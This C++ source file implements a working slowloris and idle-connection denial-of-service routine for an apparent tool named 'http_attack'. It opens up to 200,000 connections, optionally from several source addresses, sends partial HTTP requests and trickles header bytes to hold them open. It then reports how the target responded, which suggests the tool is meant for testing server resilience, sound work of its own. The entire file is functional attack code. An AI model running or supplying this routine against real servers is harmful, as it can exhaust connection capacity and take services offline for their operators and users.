// hold.cc: http_attack idle and slowloris, many connections held open.
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "http_attack.h"

namespace http_attack {

namespace {

struct HeldConn {
  enum State { kConnecting, kOpen, kClosed, kFailed } state = kConnecting;
  int fd = -1;
  int err = 0;
  bool reset = false;
  double connected_at = 0, closed_at = 0;
  std::string got;
};

}  // namespace

int cmd_hold(int argc, char** argv, bool slowloris) {
  auto a = slowloris ? parse_args(argc, argv, {"--hold", "--interval", "--from"}, {})
                     : parse_args(argc, argv, {"--hold", "--from"}, {});
  auto dst = target(a, 3);
  auto n = static_cast<std::size_t>(to_int("N", a.pos[2], 1, 200000));
  need(a, "--hold");
  double hold = opt_double(a, "--hold", 0, 0, 3600);
  double interval = opt_double(a, "--interval", 1, 0.01, 3600);
  Sources src(a.has("--from") ? a.opts.at("--from") : "");
  raise_fd_limit();
  const std::string head = "GET /health HTTP/1.1\r\nHost: x\r\n";
  const std::string trickle = "X-a: b\r\n";
  long long trickled = 0;

  int ep = ::epoll_create1(EPOLL_CLOEXEC);
  if (ep < 0) fatal(fmt::format("epoll_create1: {}", std::strerror(errno)));
  std::vector<HeldConn> c(n);
  auto finish = [&](HeldConn& h, bool reset) {
    h.state = HeldConn::kClosed;
    h.closed_at = now();
    h.reset = reset;
    ::epoll_ctl(ep, EPOLL_CTL_DEL, h.fd, nullptr);
    close_reset(h.fd);
    h.fd = -1;
  };
  auto connected = [&](HeldConn& h) {
    h.state = HeldConn::kOpen;
    h.connected_at = now();
    epoll_event ev{};
    ev.events = EPOLLIN | EPOLLRDHUP;
    ev.data.u64 = static_cast<std::uint64_t>(&h - c.data());
    ::epoll_ctl(ep, EPOLL_CTL_MOD, h.fd, &ev);
    if (slowloris && ::send(h.fd, head.data(), head.size(), MSG_NOSIGNAL) < 0) finish(h, true);
  };
  auto drain = [&](HeldConn& h) {
    char buf[16384];
    for (;;) {
      ssize_t r = ::recv(h.fd, buf, sizeof buf, 0);
      if (r > 0) {
        if (h.got.size() < 65536) h.got.append(buf, static_cast<std::size_t>(r));
        continue;
      }
      if (r < 0 && errno == EINTR) continue;
      if (r < 0 && errno == EAGAIN) return;
      finish(h, r < 0);
      return;
    }
  };
  for (std::size_t i = 0; i < n; ++i) {
    auto& h = c[i];
    h.fd = open_conn(dst, src.next(), h.err);
    if (h.fd < 0) {
      h.state = HeldConn::kFailed;
      continue;
    }
    epoll_event ev{};
    ev.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP;
    ev.data.u64 = i;
    if (::epoll_ctl(ep, EPOLL_CTL_ADD, h.fd, &ev) != 0)
      fatal(fmt::format("epoll_ctl: {}", std::strerror(errno)));
    if (h.err == 0) connected(h);
  }
  const double began = now();
  double end = began + hold, next_tick = began + interval;
  std::vector<epoll_event> evs(1024);
  auto any_left = [&c] {
    return std::any_of(c.begin(), c.end(), [](const HeldConn& h) {
      return h.state == HeldConn::kOpen || h.state == HeldConn::kConnecting;
    });
  };
  double next_check = now() + 0.1;
  while (now() < end) {
    if (now() >= next_check) {  // every connection gone: nothing more to see
      if (!any_left()) break;
      next_check = now() + 0.1;
    }
    double wake = slowloris ? std::min(end, next_tick) : end;
    int k = ::epoll_wait(ep, evs.data(), static_cast<int>(evs.size()), ms_until(wake));
    if (k < 0 && errno != EINTR) fatal(fmt::format("epoll_wait: {}", std::strerror(errno)));
    for (int j = 0; j < k; ++j) {
      auto& h = c[evs[j].data.u64];
      if (h.state == HeldConn::kConnecting) {
        if (int e = socket_error(h.fd); e != 0) {
          h.state = HeldConn::kFailed;
          h.err = e;
          ::epoll_ctl(ep, EPOLL_CTL_DEL, h.fd, nullptr);
          ::close(h.fd);
          h.fd = -1;
          continue;
        }
        connected(h);
      }
      if (h.state == HeldConn::kOpen) drain(h);
    }
    if (slowloris && now() >= next_tick) {
      for (auto& h : c) {
        if (h.state != HeldConn::kOpen) continue;
        if (::send(h.fd, &trickle[static_cast<std::size_t>(trickled) % trickle.size()], 1,
                   MSG_NOSIGNAL) < 0 && errno != EAGAIN)
          finish(h, true);
      }
      ++trickled;
      next_tick += interval;
    }
  }
  // What arrived just now still counts.
  for (auto& h : c)
    if (h.state == HeldConn::kOpen) drain(h);
  const double held = now() - began;

  long long conn = 0, refused = 0, failed = 0, pending = 0, closed = 0, open = 0, resets = 0;
  long long a503 = 0, a408 = 0, other = 0;
  std::map<int, long long> statuses;
  std::map<std::string, long long> errors;
  std::vector<double> close_ms;
  for (auto& h : c) {
    switch (h.state) {
      case HeldConn::kConnecting: ++pending; break;
      case HeldConn::kFailed:
        if (h.err == ECONNREFUSED) ++refused;
        else ++failed;
        errors[std::strerror(h.err)]++;
        break;
      case HeldConn::kOpen: ++conn; ++open; break;
      case HeldConn::kClosed:
        ++conn;
        ++closed;
        if (h.reset) ++resets;
        close_ms.push_back((h.closed_at - h.connected_at) * 1000.0);
        break;
    }
    if (h.got.empty()) continue;
    int st = status_of(h.got);
    statuses[st]++;
    if (st == 503) ++a503;
    else if (st == 408) ++a408;
    else ++other;
  }
  for (auto& h : c) close_reset(h.fd);
  ::close(ep);
  for (auto& [e, k] : errors) fmt::print(stderr, "http_attack: {} connections: {}\n", k, e);
  kv("connections", static_cast<long long>(n));
  kv("connected", conn);
  kv("refused", refused);
  kv("connect_failed", failed);
  kv("pending", pending);
  kv("closed_by_server", closed);
  kv("closed_with_reset", resets);
  kv("close_min_ms", quantile(close_ms, 0));
  kv("close_median_ms", quantile(close_ms, 0.5));
  kv("close_max_ms", quantile(close_ms, 1));
  kv("answered_503", a503);
  kv("answered_408", a408);
  kv("answered_other", other);
  kv("statuses", statuses_str(statuses));
  kv("still_open", open);
  if (slowloris) kv("bytes_trickled", trickled);
  kv("hold_seconds", hold);
  kv("held_seconds", held);
  return 0;
}

}  // namespace http_attack
